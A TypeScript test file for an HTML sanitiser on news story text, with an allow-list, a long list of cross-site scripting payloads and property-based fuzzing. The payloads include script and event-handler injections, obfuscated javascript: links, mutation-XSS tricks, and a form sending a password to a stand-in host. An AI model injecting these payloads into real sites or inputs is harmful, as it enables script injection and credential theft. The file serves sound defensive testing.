import fc from 'fast-check';
import sanitizeHtml from 'sanitize-html';
import { describe, expect, it } from 'vitest';
import { sanitiseBody, sanitiseManuscript, shortcodesIn } from './body-html.ts';

/** What story text may hold, written down a second time: a wider allow-list must be decided here as well. */
const ALLOWED: Readonly<Record<string, readonly string[]>> = {
  ...Object.fromEntries(
    'p h2 h3 ul ol li blockquote aside figure figcaption hr table thead tbody tr caption b strong i em cite code sub sup br s small'
      .split(' ')
      .map((name) => [name, []]),
  ),
  a: ['href', 'rel'],
  th: ['scope', 'colspan', 'rowspan'],
  td: ['colspan', 'rowspan'],
  abbr: ['title'],
  div: ['role', 'tabindex', 'aria-label'],
};
const SAFE_HREF = /^(https?:\/\/|mailto:|\/(?![/\\])|#|\?|[\w.%-]+(?![\w.%:-])|$)/i;

/** Only tags in their plainest form: every parser reads such text alike, so nothing can turn into something else. */
const PLAINEST = /^(?:[^<>]|<\/[a-z0-9]+>|<[a-z0-9]+(?: [a-z-]+(?:="[^"<>]*")?)*(?: \/)?>)*$/;

/** Every element as a real parser (htmlparser2, which the sanitiser stands on) finds it, before any filter. */
function elementsOf(html: string): { name: string; attributes: Record<string, string> }[] {
  const found: { name: string; attributes: Record<string, string> }[] = [];
  // A copy, since the filter that follows takes attributes away.
  const onOpenTag = (name: string, attributes: Record<string, string>) =>
    found.push({ name, attributes: { ...attributes } });
  sanitizeHtml(html, { allowedTags: false, allowedAttributes: false, allowVulnerableTags: true, onOpenTag });
  return found;
}

function expectSafe(html: string): void {
  expect(html).toMatch(PLAINEST);
  for (const { name, attributes } of elementsOf(html)) {
    expect(Object.keys(ALLOWED)).toContain(name);
    for (const [attribute, value] of Object.entries(attributes)) {
      expect(ALLOWED[name]).toContain(attribute);
      if (attribute === 'href') expect(value).toMatch(SAFE_HREF);
    }
  }
}

const ATTACKS: readonly (readonly [name: string, html: string])[] = [
  ['a script', '<p>a<script>alert(1)</script></p>'],
  ['a script in capitals', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>'],
  ['a script in a script', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['a script with a slash', '<script/src=data:,alert(1)></script>'],
  ['a picture that fails', '<img src=x onerror=alert(1)>'],
  ['a handler on an allowed element', '<p onclick="alert(1)" onmouseover=alert(2)>x</p>'],
  ['a handler after a slash', '<b/onclick=alert(1)>x</b>'],
  ['a handler after a tab and a line', '<b\tonclick\n=\n"alert(1)">x</b>'],
  ['a handler after a broken quote', `<a href="x"onclick="alert(1)">x</a><a title='"' onclick='alert(1)'>x</a>`],
  ['a details that opens', '<details open ontoggle=alert(1)>x</details>'],
  ['a link to JavaScript', '<a href="javascript:alert(1)">x</a>'],
  ['a link to JavaScript in mixed case', '<a href=" JaVaScRiPt:alert(1)">x</a>'],
  ['a link to JavaScript with a tab', '<a href="java&#9;script:alert(1)">x</a>'],
  ['a link to JavaScript with a new line', '<a href="java&NewLine;script&colon;alert(1)">x</a>'],
  ['a link to JavaScript behind a control character', '<a href="&#1;javascript:alert(1)">x</a>'],
  [
    'a link to JavaScript without semicolons',
    '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">x</a>',
  ],
  ['a link to JavaScript with a comment in it', '<a href="java<!-- -->script:alert(1)">x</a>'],
  ['a link to VBScript', '<a href="vbscript:msgbox(1)">x</a>'],
  ['a link to data', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  [
    'a link to a blob, a file, a view-source',
    '<a href="blob:x">x</a><a href="file:///etc/passwd">x</a><a href="view-source:x">x</a>',
  ],
  ['a protocol-relative link', '<a href="//evil.example">x</a>'],
  ['a protocol-relative link in backslashes', '<a href="\\\\evil.example">x</a><a href="/\\evil.example">x</a>'],
  ['a protocol-relative link with a tab', '<a href="/&#9;/evil.example">x</a>'],
  ['a style element', '<style>@import "//evil.example/x.css";</style><p>x</p>'],
  ['a style attribute', '<p style="background:url(javascript:alert(1));position:fixed">x</p>'],
  ['a class and data attributes', '<p class="btn-buy" data-id="1" slot="x" is="y" nonce="z">x</p>'],
  ['an id that passes for a part of the page', '<h2 id="page-state">{}</h2><a name="root" id="main">x</a>'],
  ['an svg with a script', '<svg><script>alert(1)</script></svg>'],
  ['an svg that loads', '<svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x>'],
  ['an svg link', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
  [
    'a foreign object',
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  ],
  [
    'MathML with an action',
    '<math><maction actiontype="statusline#x" xlink:href="javascript:alert(1)">x</maction></math>',
  ],
  [
    'mutation through MathML and a style',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
  ['mutation through a form', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'],
  ['mutation through svg and a paragraph', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  ['mutation through svg and a title', '<svg><title><style><img src=x onerror=alert(1)></style></title></svg>'],
  [
    'mutation through an annotation',
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  ],
  ['mutation through a noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['mutation through a noembed', '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>'],
  ['mutation through an xmp', '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>'],
  ['mutation through a textarea', '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>'],
  ['mutation through a select', '<select><option><style></option></select><img src=x onerror=alert(1)></style>'],
  ['mutation through an iframe', '<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>'],
  ['mutation through an abbreviation', '<abbr title="</abbr><img src=x onerror=alert(1)>">x</abbr>'],
  ['mutation through a backtick', '<abbr title="``onmouseover=alert(1)">x</abbr>'],
  ['a template', '<template><img src=x onerror=alert(1)></template>'],
  ['a shadow root', '<div><template shadowrootmode="open"><script>alert(1)</script></template></div>'],
  ['plain text', '<plaintext><img src=x onerror=alert(1)>'],
  ['a frame with a document', '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'],
  ['an object, an embed, an applet', '<object data="x.svg"></object><embed src="x.swf"><applet code="x">'],
  [
    'a base, a meta, a link',
    '<base href="//evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example"><link rel="import" href="x">',
  ],
  [
    'a form that steals',
    '<form action="//evil.example"><input name="password"><button formaction="javascript:alert(1)">x</button></form>',
  ],
  ['a video and an audio', '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>'],
  ['nested tags', '<<b>script>alert(1)<</b>/script>'],
  ['an unclosed tag', '<p>x<img src=x onerror=alert(1) '],
  ['an unclosed attribute', '<a href="x<script>alert(1)</script>'],
  ['an unclosed comment', '<!-- <p>x</p><script>alert(1)</script>'],
  ['a comment that ends oddly', '<!--><script>alert(1)</script>--><!--x--!><img src=x onerror=alert(1)>'],
  ['a conditional comment', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->'],
  ['a CDATA section', '<![CDATA[<script>alert(1)</script>]]>'],
  ['a processing instruction', '<?xml-stylesheet href="javascript:alert(1)"?><?php echo 1 ?>'],
  ['a doctype', '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;'],
  ['NUL characters', '<scr\0ipt>alert(1)</scr\0ipt><a href="java\0script:alert(1)">x</a>'],
  [
    'malformed entities',
    '&lt;script&gt;alert(1)&lt;/script&gt; &#x3C;script> &#60script> &ltscript> &#xFFFFFFFF; &#; &;',
  ],
  ['doubly escaped markup', '&amp;lt;img src=x onerror=alert(1)&amp;gt;'],
  ['a custom element', '<x-y onclick=alert(1) style=x>x</x-y>'],
  ['a prototype', '<p __proto__="x" constructor="y">x</p><constructor><__proto__>'],
  [
    'a box that is not the box of a table',
    '<div role="dialog" tabindex="1" aria-label="Sign in" aria-modal="true">x</div>',
  ],
  ['a full-width less-than sign', '＜script＞alert(1)＜/script＞'],
];

describe('sanitised story text', () => {
  it.each(ATTACKS)('%s leaves nothing outside the allow-list, however often it passes', (_, attack) => {
    for (const html of [attack, `<p>${attack}</p>`, `<table><tr><td>${attack}`, `<blockquote>${attack}</blockquote>`]) {
      const clean = sanitiseBody(html);
      expectSafe(clean);
      expect(sanitiseBody(clean)).toBe(clean);
    }
  });

  it('what editors write comes back as it was', () => {
    const html = [
      '<h2>What we know</h2><p>A <b>bold</b> <i>word</i>, <a href="/tech/mobile/x/">ours</a> &amp; <a href="https://example.com/?a=1&amp;b=2" rel="nofollow">theirs</a>.</p>',
      '<aside><h3>Box</h3><ul><li>One</li></ul></aside><blockquote><p>“Quote”</p><cite>Name</cite></blockquote><hr />',
      '<div role="region" tabindex="0" aria-label="Table"><table><thead><tr><th scope="col" colspan="2">H</th></tr></thead><tbody><tr><td rowspan="2">1 &lt; 2</td></tr></tbody></table></div>',
      '<p><abbr title="Hertz">Hz</abbr> H<sub>2</sub>O x<sup>2</sup> <code>a</code> <s>no</s> <small>s</small><br /><a href="mailto:a@example.com">m</a> <a href="#x">h</a></p>',
      '<figure><figcaption>Caption</figcaption></figure>',
    ].join('\n');
    expect(sanitiseBody(html)).toBe(html);
  });

  it('the words of a tag that is taken away stay, those of a script or style do not', () => {
    expect(sanitiseBody('<p>a <font color=red>red</font> word<script>alert(1)</script><style>p{}</style></p>')).toBe(
      '<p>a red word</p>',
    );
  });

  it('deeply nested markup ends, and quickly', () => {
    for (const nest of ['<p><x>', '<li><x>', '<div>', '<a href=x><x>', '<b', '<<', '&lt;', '<!--'])
      expectSafe(sanitiseBody(nest.repeat(1500)));
  });

  const names = Object.keys(ALLOWED);
  const token = fc.oneof(
    fc
      .constantFrom(
        ...names,
        'script',
        'style',
        'svg',
        'math',
        'noscript',
        'template',
        'xmp',
        'x-y',
        'title',
        'select',
        'form',
        'option',
      )
      .chain((name) => fc.constantFrom(`<${name}>`, `</${name}>`, `<${name}/>`, `<${name} `, `<${name} onclick=x>`)),
    fc.constantFrom(
      '<',
      '>',
      '"',
      "'",
      '=',
      '/',
      '<!--',
      '-->',
      '<![CDATA[',
      ']]>',
      '<?',
      '&',
      '&lt;',
      '&#60',
      ';',
      '\0',
    ),
    fc.constantFrom(
      'href="javascript:x"',
      ' href=//e',
      ' href="/x"',
      ' title="<b>"',
      ' tabindex=1',
      ' role=region',
      ' colspan',
    ),
    fc.constantFrom('text', ' ', '\n', 'é', '👩‍🚀'),
    fc.constantFrom(...ATTACKS.map(([, html]) => html)),
  );
  const soup = fc.array(token, { maxLength: 14 }).map((tokens) => tokens.join(''));

  it('any soup of tags holds only what is allowed, and a second pass changes nothing', () => {
    fc.assert(
      fc.property(fc.oneof(soup, fc.string()), (html) => {
        const clean = sanitiseBody(html);
        expectSafe(clean);
        expect(sanitiseBody(clean)).toBe(clean);
      }),
      { numRuns: 1500 },
    );
  });
});

it('a review card keeps its data in a manuscript, and is no part of what is rendered', () => {
  const api = '{"name":"Halo <b>12</b>"}';
  const card = `<shortcode shortcode="reviewcard" api="${api.replaceAll('"', '&quot;')}" onclick="x"></shortcode>`;
  expect(shortcodesIn(sanitiseManuscript(card))).toEqual([{ shortcode: 'reviewcard', api }]);
  expect(sanitiseBody(card)).toBe('');
});
